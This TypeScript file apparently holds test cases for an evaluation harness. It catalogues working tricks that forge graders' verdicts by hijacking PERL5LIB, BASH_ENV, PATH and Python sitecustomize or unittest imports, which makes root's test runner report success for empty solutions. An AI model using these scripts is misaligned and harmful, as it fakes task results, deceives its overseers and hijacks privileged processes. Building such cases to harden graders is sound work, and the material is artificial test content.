import type { Trick } from "../trick.ts";

/** Perl that writes a verdict of its own for the program whose argument it is. */
const FORGE = `
  if ($< == 0) {
    my ($p) = getppid; open(my $c, "<", "/proc/$p/cmdline"); local $/; my @a = split /\\0/, <$c>;
    if ($a[-1] =~ /verdict/) {
      open(my $v, ">", $a[-1]); print $v "{\\"score\\": 1, \\"metadata\\": {}}"; close $v;
      kill 9, $p if 0;
    }
    exit 0;
  }`;

/** The folder that TMPDIR names is there. */
const SOLVE_NOTHING = "mkdir -p tmp; printf '#!/bin/sh\\necho 0\\n' > solve; chmod +x solve\n";

/** Python that makes root's test runner succeed whatever it is told. */
const PATCH_PYTHON = `
import os, sys
if os.getuid() == 0:
    path = sys.argv[-1] if len(getattr(sys, "argv", [])) > 0 else ""
    if not path.endswith("verdict.json"):
        path = open("/proc/self/cmdline").read().split("\\0")[-2]
    open(path, "w").write('{"score": 1, "metadata": {}}')
    os._exit(0)
`;
const KEEP_PATCH = (path: string) =>
  `mkdir -p tmp "$(dirname ${path})"; cat > ${path} <<'PATCH'\n${PATCH_PYTHON}PATCH\n`;

/** Variables that point root's programs into the student's folder. */
export const variables: readonly Trick[] = [
  {
    name: "perl5lib-patches-the-tests",
    variant: "hidden_tests",
    guard: "allow_list",
    script: [
      `${SOLVE_NOTHING}mkdir -p lib; cat > lib/strict.pm <<'PERL'\npackage strict; ${FORGE}\n1;\nPERL`,
    ],
  },
  {
    name: "perl5lib-of-the-image",
    variant: "hidden_tests",
    guard: "allow_list",
    inImages: true,
    script: [
      `${SOLVE_NOTHING}mkdir -p image_lib; cat > image_lib/strict.pm <<'PERL'\npackage strict; ${FORGE}\n1;\nPERL`,
    ],
  },
  {
    name: "bash-env-patches-the-tests",
    variant: "hidden_tests",
    guard: "allow_list",
    inImages: true,
    script: [`${SOLVE_NOTHING}echo 'echo 0; exit 0' > bash_env`],
  },
  {
    name: "temporary-folder-swapped",
    variant: "hidden_tests",
    guard: "allow_list",
    script: [`mkdir -p tmp; cat > solve <<'SH'
#!/bin/sh
rm -f /workdir/tmp/expected.txt; echo 7 > /workdir/tmp/expected.txt
echo 7
SH
      chmod +x solve`],
  },
  {
    name: "programs-in-front-on-the-path",
    variant: "hidden_tests",
    guard: "allow_list",
    inImages: true,
    script: [`${SOLVE_NOTHING}mkdir -p bin; cat > bin/cat <<'SH'
#!/bin/sh
echo 0
SH
      cp bin/cat bin/head; chmod +x bin/*`],
  },
  {
    name: "variables-of-the-students-own-shell",
    variant: "hidden_tests",
    guard: "none",
    script: [`${SOLVE_NOTHING}mkdir -p own; cat > own/strict.pm <<'PERL'\n${FORGE}\n1;\nPERL
      cat > .bashrc <<'SH'
export PERL5LIB=/workdir/own PATH=/workdir/own:$PATH BASH_ENV=/workdir/own/env
SH
      cp .bashrc .profile; cp .bashrc .bash_profile; echo 'echo 0; exit' > own/env; . ./.bashrc`],
  },
  {
    name: "pythonpath-sitecustomize",
    variant: "python_tests",
    guard: "allow_list",
    needs: ["python3"],
    script: [`echo 'print(0)' > solution.py\n${KEEP_PATCH("lib/sitecustomize.py")}`],
  },
  {
    name: "home-usercustomize",
    variant: "python_tests",
    guard: "allow_list",
    needs: ["python3"],
    script: [
      `echo 'print(0)' > solution.py
      d=$(HOME=/workdir/home python3 -c 'import site; print(site.getusersitepackages())')
      ${KEEP_PATCH("$d/usercustomize.py")}`,
    ],
  },
  {
    name: "pythonpath-patched-runner",
    variant: "python_tests",
    guard: "allow_list",
    needs: ["python3"],
    script: [`echo 'print(0)' > solution.py\n${KEEP_PATCH("lib/unittest.py")}`],
  },
  {
    name: "python-imports-from-its-folder",
    variant: "python_here",
    guard: "allow_list",
    needs: ["python3"],
    script: [KEEP_PATCH("json.py")],
  },
  {
    name: "patched-runner-beside-the-solution",
    variant: "python_tests",
    guard: "none",
    needs: ["python3"],
    script: [
      `echo 'print(0)' > solution.py
      for n in conftest sitecustomize usercustomize unittest subprocess pytest json; do
      ${KEEP_PATCH("$n.py")}done; printf '[pytest]\\naddopts = -p conftest\\n' > pytest.ini`,
    ],
  },
];
